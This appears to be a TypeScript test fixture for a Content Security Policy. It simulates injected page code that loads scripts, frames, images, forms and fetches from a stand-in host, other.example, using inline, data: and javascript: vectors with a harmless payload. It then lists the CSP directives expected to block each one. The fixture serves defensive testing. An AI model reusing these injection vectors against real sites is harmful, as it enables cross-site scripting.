/** Runs in the page: what somebody would try who had found a way to write into it. */
export function attack(): void {
  const evil = 'https://other.example/';
  const harm = 'window.harmed = true';
  const put = (tag: string, properties: object, attributes: Record<string, string> = {}) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(Object.assign(element, properties));
    return element;
  };
  put('script', { textContent: harm });
  put('script', { src: `${evil}script` });
  put('script', { src: `data:text/javascript,${harm}` });
  put('a', {}, { onclick: harm }).click();
  put('a', { href: `javascript:${harm}` }).click();
  put('style', { textContent: 'body { color: red }' });
  put('p', {}, { style: 'color: red' });
  put('link', { rel: 'stylesheet', href: `${evil}style` });
  put('img', { src: `${evil}picture` });
  put('iframe', { src: `${evil}frame` });
  put('object', { data: `${evil}plug-in` });
  put('video', { src: `${evil}film` });
  put('base', { href: evil });
  (put('form', { action: `${evil}form` }) as HTMLFormElement).submit();
  void fetch(`${evil}request`).catch(() => undefined);
  // What a string is made of here runs outside the debugger, which may do more than a page.
  put('button', { onclick: () => setTimeout(harm) }).click();
}

/** What must be stopped of it, as `visit` reports it. */
export const attacksStopped = [
  'base-uri https://other.example/',
  'connect-src https://other.example/request',
  'form-action https://other.example/form?',
  'frame-src https://other.example',
  'img-src https://other.example/picture',
  'media-src https://other.example/film',
  'object-src https://other.example',
  'script-src eval',
  'script-src-attr inline',
  'script-src-elem data',
  'script-src-elem https://other.example/script',
  'script-src-elem inline',
  'style-src-attr inline',
  'style-src-elem https://other.example/style',
  'style-src-elem inline',
];
